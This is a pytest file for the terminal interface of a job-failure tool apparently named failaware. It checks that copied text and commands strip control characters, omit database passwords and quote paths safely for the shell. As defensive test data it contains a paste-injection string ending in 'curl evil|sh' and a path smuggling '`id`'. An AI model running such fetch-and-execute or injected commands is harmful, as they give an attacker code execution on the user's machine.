"""What is copied can be pasted: no control reaches a shell, and a command is complete except for its reason."""

import re
import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from failaware import Handlers, Permanent, Store, Worker
from failaware.cli.main import main
from tests.conftest import query
from tui.copies import decision_command, pasteable, quoted
from tui.screens.events import EventsScreen

from .helpers import gone, inspecting, loaded, rows, shows, until

PASTE = "oops \x1b[201~\rcurl evil|sh\r\x9b31m\x7f\x00 end\tof it"


def raw(text):
    return re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


@given(st.text(st.characters(exclude_categories=[])))
def test_a_copied_text_holds_no_control_but_line_ends_and_tabs(text):
    copied = pasteable(text)
    assert not raw(copied)
    copied.encode()
    if not raw(text) and text.isprintable():
        assert copied == text


@pytest.mark.large
async def test_whatever_is_copied_holds_no_control(path, clock):
    handlers = Handlers()

    @handlers.on("*")
    def fails(event):
        raise Permanent(PASTE)

    with Store.open(path, clock=clock) as store:
        store.record("evil", {"text": PASTE}, source="a b")
        Worker(store, handlers).run(until_idle=True)
    async with inspecting(path, clock=clock) as pilot:
        app, copied = pilot.app, {}
        await loaded(pilot, 1)
        for screen in (None, "e", EventsScreen(where="id:1"), "w"):
            if isinstance(screen, str):
                await pilot.press(screen)
            elif screen is not None:
                app.push_screen(screen)
            await shows(pilot, "oops")
            for key in app.screen.copies():
                await pilot.press("y", key)
                copied[type(app.screen).__name__, key] = app.clipboard
        assert {screen for screen, _ in copied} == {"Overview", "EventsScreen"}
        assert {"m", "j", "t"} <= {key for screen, key in copied if screen == "EventsScreen"}, copied.keys()
        assert not [key for key, text in copied.items() if raw(text)]
        assert "\\x1b[201~\ncurl evil|sh" in copied["EventsScreen", "m"]


@pytest.mark.sqlite("a relative path")
async def test_a_copied_command_names_the_store_from_anywhere_and_decides_nothing_without_a_reason(
    full, path, clock, monkeypatch, tmp_path, capsys
):
    store, _ = full
    folder = tmp_path / "it's a folder"
    folder.mkdir()
    store.close()
    path.rename(folder / path.name)
    monkeypatch.chdir(folder)
    async with inspecting(path.name, clock=clock) as pilot:
        await loaded(pilot, 2)
        await pilot.press("e")
        await loaded(pilot, 9)
        await pilot.press("G")
        await until(pilot, lambda: rows(pilot).current_key == 1)
        await pilot.press("c")
        command = shlex.split(pilot.app.clipboard)
    monkeypatch.chdir("/")
    assert command[0] == "failaware"
    assert main(command[1:]) == 2
    assert "give the reason in words" in capsys.readouterr().err
    assert main([*command[1:-1], "repaired"]) == 0
    with Store.open(folder / path.name) as store:
        assert query(store, "SELECT event_id, reason FROM decision_log") == [(1, "repaired")]


async def test_one_command_decides_about_all_rows_that_are_marked(full, path, clock, capsys):
    store, _ = full
    async with inspecting(path, clock=clock) as pilot:
        await loaded(pilot, 2)
        clusters = [item.cluster_id for item in rows(pilot).window.items]
        await pilot.press("space", "space")
        await shows(pilot, "2 marked")
        await pilot.press("C")
        assert pilot.app.clipboard.endswith(f"dismiss --where last:{clusters[0]},{clusters[1]} --because ''")
        assert main([*shlex.split(pilot.app.clipboard)[1:-1], "known"]) == 0
        assert query(store, "SELECT count(*) FROM decision_log") == [(5,)]
        await pilot.press("escape")
        await gone(pilot, "marked")
        await pilot.press("e")
        await loaded(pilot, 9)
        await pilot.press("space", "j", "space", "space", "k", "space", "c")
        assert pilot.app.clipboard.endswith("requeue 9 7 --because ''")
        await pilot.press("y", "i")
        assert pilot.app.clipboard == "9\n7"


@pytest.mark.parametrize(
    ("place", "copied"),
    [
        ("postgresql://ada:pw@h/db?sslmode=require", "'postgresql://ada@h/db?sslmode=require'"),
        ("postgresql://ada@h/db?password=pw&schema=x", "'postgresql://ada@h/db?schema=x'"),
        ("postgresql://ada@h/db?password=pw", "postgresql://ada@h/db"),
    ],
)
def test_a_copied_command_has_no_password(place, copied):
    assert (
        decision_command(place, "requeue", [("cluster", 7)])
        == f"failaware --db {copied} requeue --cluster 7 --because ''"
    )


@pytest.mark.parametrize("name", ["/a b", "/it's", "/x\x1b[201~\ny\tz", "/caf\udcff\\é", "/$HOME;`id`"])
def test_any_path_is_one_word_of_a_shell(name):
    word = quoted(name)
    assert not raw(word)
    assert "\n" not in word
    done = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert done.stdout == name.encode(errors="surrogateescape")
